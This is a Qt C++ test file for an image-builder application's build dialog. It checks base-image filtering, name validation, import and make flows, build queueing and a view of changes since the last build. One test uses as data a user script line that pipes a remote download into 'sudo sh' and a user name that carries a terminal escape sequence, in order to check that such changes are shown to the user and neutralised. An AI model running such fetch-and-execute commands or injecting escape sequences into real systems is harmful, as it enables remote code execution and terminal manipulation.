#include "BuildFixture.h"

#include "baseimages/ImportBaseImageDialog.h"
#include "baseimages/MakeBaseImageDialog.h"
#include "builds/BuildImageDialog.h"
#include "builds/TemplateChangesView.h"
#include "ledger/ResourceLedger.h"
#include "templates/TemplateService.h"

#include <QClipboard>
#include <QComboBox>
#include <QFile>
#include <QGuiApplication>

#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>

using namespace ib;
using namespace ib::ui;

class TestBuildImageDialog final : public QObject
{
    Q_OBJECT

private slots:
    void showsOnlySuitableBaseImages();
    void imageNameRuleTogglesStart();
    void noSuitableBaseImageExplainsAndOffersImport();
    void emptyDebianListOffersToMakeOne();
    void startQueuesABuild();
    void arm64BaseImagesSaySo();
    void aForeignBaseImageNamesTheFasterWay();
    void showsWhoChangedWhatSinceTheLastBuild();
};

void TestBuildImageDialog::showsOnlySuitableBaseImages()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"), QStringLiteral("debian:12"));
    const auto debian = f.addBase(QStringLiteral("debian-12-genericcloud-amd64"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    f.addBase(QStringLiteral("jammy-server-cloudimg-amd64"), QStringLiteral("ubuntu:22.04"), QStringLiteral("ubuntu"));
    f.addBase(QStringLiteral("Rocky-9-GenericCloud"), QStringLiteral("rocky:9"), QStringLiteral("rocky"));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    QCOMPARE(dialog.baseImageList()->count(), 1);
    QVERIFY(dialog.baseImageList()->item(0)->text().startsWith(QStringLiteral("debian-12-genericcloud-amd64")));
    QCOMPARE(dialog.selectedBaseImageId(), debian.id);
    QCOMPARE(dialog.hiddenText(), QStringLiteral("2 base images are hidden: they are not Debian 12 (bookworm)."));
    QVERIFY(dialog.noBaseImageText().isEmpty());
}

void TestBuildImageDialog::imageNameRuleTogglesStart()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"));
    f.addBase(QStringLiteral("debian-12"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    QVERIFY(!dialog.startButton()->isEnabled());  // no name yet
    QVERIFY(dialog.nameMessage().isEmpty());      // and no scolding before typing
    QTest::keyClicks(dialog.imageNameEdit(), QStringLiteral("web-1.0"));
    QVERIFY(dialog.startButton()->isEnabled());
    QVERIFY(dialog.nameMessage().isEmpty());
    test::typeText(dialog.imageNameEdit(), QStringLiteral("웹"));
    QVERIFY(!dialog.startButton()->isEnabled());
    QVERIFY2(dialog.nameMessage().contains(QStringLiteral("character 8")), qPrintable(dialog.nameMessage()));
    QTest::keyClick(dialog.imageNameEdit(), Qt::Key_Backspace);
    QVERIFY(dialog.startButton()->isEnabled());
    QVERIFY(dialog.nameMessage().isEmpty());
    dialog.imageNameEdit()->setText(QString(256, QLatin1Char('a')));
    QVERIFY(!dialog.startButton()->isEnabled());
    QVERIFY(dialog.nameMessage().contains(QStringLiteral("256 characters")));
}

void TestBuildImageDialog::noSuitableBaseImageExplainsAndOffersImport()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("db"), QStringLiteral("rocky:9"));
    f.addBase(QStringLiteral("debian-12"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    int asked = 0;
    dialog.setChooseFile([&] {
        ++asked;
        return QStringLiteral("/nonexistent/Rocky-9-GenericCloud-Base.latest.x86_64.qcow2");
    });
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    QCOMPARE(dialog.baseImageList()->count(), 0);
    // Which OS, why the Debian image is hidden, and what to download.
    const QString why = dialog.noBaseImageText();
    QVERIFY2(why.contains(QStringLiteral("it needs Rocky Linux 9")), qPrintable(why));
    QVERIFY2(why.contains(QStringLiteral("The 1 base image in the library is another OS, so it is hidden.")), qPrintable(why));
    QVERIFY2(why.contains(QStringLiteral("Rocky-9-GenericCloud-Base.latest.x86_64.qcow2")), qPrintable(why));
    // Debian 12 is the one OS the maker makes: no Make button for Rocky.
    QVERIFY(!dialog.findChild<QPushButton *>(QStringLiteral("makeBaseImage"))->isVisible());
    dialog.imageNameEdit()->setText(QStringLiteral("db image"));
    QVERIFY(!dialog.startButton()->isEnabled());  // nothing to build from

    auto *import = dialog.findChild<QPushButton *>(QStringLiteral("importBaseImage"));
    QVERIFY(import->isVisible());
    QTest::mouseClick(import, Qt::LeftButton);
    QCOMPARE(asked, 1);
    auto *importer = dialog.findChild<ImportBaseImageDialog *>();
    QVERIFY(importer);
    QTRY_VERIFY(importer->isVisible());
    QCOMPARE(importer->osCombo()->currentData().toString(), QStringLiteral("rocky:9"));
    QCOMPARE(importer->userEdit()->text(), QStringLiteral("rocky"));
    QCOMPARE(importer->architectureCombo()->currentData().toString(), QStringLiteral("x86_64"));  // ".x86_64." in the name
    // The import of a missing file fails off the UI thread and says why.
    QTest::mouseClick(importer->importButton(), Qt::LeftButton);
    QTRY_VERIFY(!importer->isImporting());
    QVERIFY2(importer->statusText().startsWith(QStringLiteral("The import failed")), qPrintable(importer->statusText()));
}

void TestBuildImageDialog::emptyDebianListOffersToMakeOne()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"), QStringLiteral("debian:12"));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    const QString why = dialog.noBaseImageText();
    QVERIFY2(why.contains(QStringLiteral("it needs Debian 12")), qPrintable(why));
    QVERIFY2(why.contains(QStringLiteral("Make one here")), qPrintable(why));
    QVERIFY2(!why.contains(QStringLiteral("hidden")), qPrintable(why));  // the library is empty
    auto *make = dialog.findChild<QPushButton *>(QStringLiteral("makeBaseImage"));
    QVERIFY(make->isVisible());
    QTest::mouseClick(make, Qt::LeftButton);
    auto *maker = dialog.findChild<MakeBaseImageDialog *>();
    QVERIFY(maker);
    QTRY_VERIFY(maker->isVisible());
    // Here (tests run as root, on Linux) it can run; elsewhere it says how to do without.
    if (maker->problem().isEmpty())
        QVERIFY(maker->startButton()->isEnabled());
    else
        QVERIFY2(maker->problem().contains(QStringLiteral("debian-12-genericcloud-amd64.qcow2")), qPrintable(maker->problem()));
    maker->close();
}

void TestBuildImageDialog::startQueuesABuild()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"));
    f.addBase(QStringLiteral("debian-12"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    QSignalSpy started(&dialog, &BuildImageDialog::buildStarted);
    QSignalSpy queued(f.service.get(), &BuildService::buildQueued);
    QSignalSpy finished(f.service.get(), &BuildService::buildFinished);
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    QVERIFY(!dialog.copyCommandButton()->isEnabled());  // no name yet
    QTest::keyClicks(dialog.imageNameEdit(), QStringLiteral("web image"));
    // Copy as Command (issue 18): the same build from a terminal, every value quoted.
    QVERIFY(dialog.copyCommandButton()->isEnabled());
    QTest::mouseClick(dialog.copyCommandButton(), Qt::LeftButton);
    QCOMPARE(QGuiApplication::clipboard()->text(),
             QStringLiteral("imagebuilder-cli build start --template '%1' --image-name 'web image' --base-image '%2' --follow")
                 .arg(t.id, dialog.selectedBaseImageId()));
    QCOMPARE(dialog.copyCommandButton()->text(), QStringLiteral("Copied"));
    QCOMPARE(started.size(), 0);  // copying starts nothing
    QTest::mouseClick(dialog.startButton(), Qt::LeftButton);
    // Recorded off this thread: until then the dialog says so and stays (Escape, Cancel and
    // a second click do nothing).
    QVERIFY(dialog.isStarting());
    QCOMPARE(dialog.startButton()->text(), QStringLiteral("Starting\u2026"));
    QVERIFY(!dialog.startButton()->isEnabled());
    QVERIFY(dialog.imageNameEdit()->isReadOnly());
    QTest::keyClick(&dialog, Qt::Key_Escape);
    QVERIFY(dialog.isVisible());
    QTest::mouseClick(dialog.startButton(), Qt::LeftButton);
    QTRY_COMPARE(started.size(), 1);
    QVERIFY(!dialog.isStarting());
    QCOMPARE(queued.size(), 1);
    QCOMPARE(dialog.result(), int(QDialog::Accepted));
    QCOMPARE(started.first().first().value<BuildRecord>().imageName, QStringLiteral("web image"));
    QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 20000);  // the fake provider fails it
}

// Issue 20: an arm64 base image (HVF on Apple Silicon) is listed for its OS like any other,
// and says what it boots on.
void TestBuildImageDialog::arm64BaseImagesSaySo()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"));
    f.addBase(QStringLiteral("debian-12"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    f.addBase(QStringLiteral("debian-12-arm"), QStringLiteral("debian:12"), QStringLiteral("debian"), QLatin1String(ArchArm64));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    QCOMPARE(dialog.baseImageList()->count(), 2);
    QStringList texts;
    for (int i = 0; i < dialog.baseImageList()->count(); ++i)
        texts << dialog.baseImageList()->item(i)->text();
    QVERIFY2(texts.filter(QStringLiteral("(arm64)")).size() == 1, qPrintable(texts.join(QLatin1Char('\n'))));
    QVERIFY(texts.filter(QStringLiteral("(arm64)")).first().startsWith(QStringLiteral("debian-12-arm ")));
}

// Issue 20: a base image of another CPU architecture than this computer's builds under
// emulation. The dialog lists this computer's first, and for another says what it costs
// and the faster way; the build's log says it too. (On Apple Silicon the same rule speaks
// of an x86-64 image: tst_buildrules runs it for an arm64 host.)
void TestBuildImageDialog::aForeignBaseImageNamesTheFasterWay()
{
    if (hostArchitecture() != QLatin1String(ArchX86))
        QSKIP("the dialog's part is written for an x86-64 computer; tst_buildrules covers arm64 hosts");
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"));
    const auto arm =
        f.addBase(QStringLiteral("debian-12-arm"), QStringLiteral("debian:12"), QStringLiteral("debian"), QLatin1String(ArchArm64));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
    QSignalSpy started(&dialog, &BuildImageDialog::buildStarted);
    QSignalSpy finished(f.service.get(), &BuildService::buildFinished);
    dialog.show();
    QTRY_VERIFY(dialog.isLoaded());
    // Only the arm64 one: chosen, and the note names Debian's x86-64 cloud image.
    QCOMPARE(dialog.selectedBaseImageId(), arm.id);
    const QString alone = dialog.architectureNoteText();
    QVERIFY2(alone.startsWith(QStringLiteral("This arm64 image runs under software emulation on this x86-64 computer")), qPrintable(alone));
    QVERIFY2(alone.contains(QStringLiteral("debian-12-genericcloud-amd64.qcow2")), qPrintable(alone));

    // An x86-64 one comes: listed first and chosen, with no note.
    const auto pc = f.addBase(QStringLiteral("debian-12-pc"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    dialog.reloadBaseImages();
    QTRY_VERIFY(dialog.isLoaded() && dialog.baseImageList()->count() == 2);
    QVERIFY(dialog.baseImageList()->item(0)->text().startsWith(QStringLiteral("debian-12-pc ")));
    QCOMPARE(dialog.selectedBaseImageId(), pc.id);
    QVERIFY(dialog.architectureNoteText().isEmpty());
    // Choosing the arm64 one names the x86-64 one.
    dialog.baseImageList()->setCurrentRow(1);
    QCOMPARE(dialog.selectedBaseImageId(), arm.id);
    const QString named = dialog.architectureNoteText();
    QVERIFY2(named.contains(QStringLiteral("“debian-12-pc” is the same OS for x86-64")), qPrintable(named));

    // A build from it says the same in its log, before the VM starts (the fake provider
    // then fails it).
    QTest::keyClicks(dialog.imageNameEdit(), QStringLiteral("web-arm"));
    QTest::mouseClick(dialog.startButton(), Qt::LeftButton);
    QTRY_COMPARE(started.size(), 1);
    QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 20000);
    QFile log(started.first().first().value<BuildRecord>().logPath);
    QVERIFY(log.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(log.readAll());
    QVERIFY2(text.contains(QStringLiteral("“debian-12-pc” is the same OS for x86-64: choose it")), qPrintable(text));
}

// Issue 15, "who changed what I am about to run": the revision's author (inert: a
// colleague's client writes it), and what changed since this computer last built the
// template, from its own ledger.
void TestBuildImageDialog::showsWhoChangedWhatSinceTheLastBuild()
{
    test::BuildFixture f;
    const auto t = f.gui.add(QStringLiteral("web"));
    f.addBase(QStringLiteral("debian-12"), QStringLiteral("debian:12"), QStringLiteral("debian"));
    {
        BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
        auto *changes = dialog.changesView();
        QVERIFY(changes);
        QTRY_VERIFY(changes->isLoaded());
        QVERIFY2(changes->summary().contains(QStringLiteral("Revision 1 was saved by ") + Store::savedBy()),
                 qPrintable(changes->summary()));
        QVERIFY2(changes->summary().contains(QStringLiteral("not built this template on this computer")), qPrintable(changes->summary()));
        QVERIFY2(changes->details().contains(QStringLiteral("+ echo ready")), qPrintable(changes->details()));
        QVERIFY(changes->hasChanges());
        // Starting the build records the template as built here.
        QSignalSpy finished(f.service.get(), &BuildService::buildFinished);
        dialog.show();
        QTRY_VERIFY(dialog.isLoaded());
        QTest::keyClicks(dialog.imageNameEdit(), QStringLiteral("web image"));
        QTest::mouseClick(dialog.startButton(), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 20000);
    }

    // A colleague's client saves revision 2 with another script; its user name carries an
    // escape sequence, which must arrive inert.
    const QByteArray user = qgetenv("USER");
    qputenv("USER", "alice\x1b]0;owned\x07");
    TemplateService service(*f.gui.store, ApplicationCatalog::builtin());
    ImageTemplate changed = t;
    changed.userScript = QStringLiteral("#!/bin/bash -e\ncurl -s https://example.invalid/x | sudo sh\n");
    auto saved = service.update(changed);
    qputenv("USER", user);
    QVERIFY2(saved, saved ? "" : qPrintable(saved.error().message));
    {
        BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), saved.value());
        auto *changes = dialog.changesView();
        QTRY_VERIFY(changes->isLoaded());
        const QString summary = changes->summary();
        QVERIFY2(summary.contains(QStringLiteral("Revision 2 was saved by alice")), qPrintable(summary));
        QVERIFY2(!summary.contains(QChar(0x1b)) && !summary.contains(QChar(0x07)), qPrintable(summary));
        QVERIFY2(summary.contains(QStringLiteral("Changed since you last built it on this computer (revision 1")), qPrintable(summary));
        QVERIFY2(summary.contains(QStringLiteral("User script")), qPrintable(summary));
        QVERIFY2(changes->details().contains(QStringLiteral("- echo ready")), qPrintable(changes->details()));
        QVERIFY2(changes->details().contains(QStringLiteral("+ curl -s https://example.invalid/x | sudo sh")),
                 qPrintable(changes->details()));
        QVERIFY(changes->hasChanges());
    }

    // Built as it is now: nothing to read again.
    QVERIFY(ResourceLedger(f.service->settings().dataDirectory).rememberBuilt(saved.value()));
    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), saved.value());
    QTRY_VERIFY(dialog.changesView()->isLoaded());
    QVERIFY2(dialog.changesView()->summary().contains(QStringLiteral("Unchanged since you last built it on this computer (revision 2")),
             qPrintable(dialog.changesView()->summary()));
    QVERIFY(!dialog.changesView()->hasChanges());
    QVERIFY(dialog.changesView()->details().isEmpty());
}

QTEST_MAIN(TestBuildImageDialog)
#include "tst_buildimagedialog.moc"
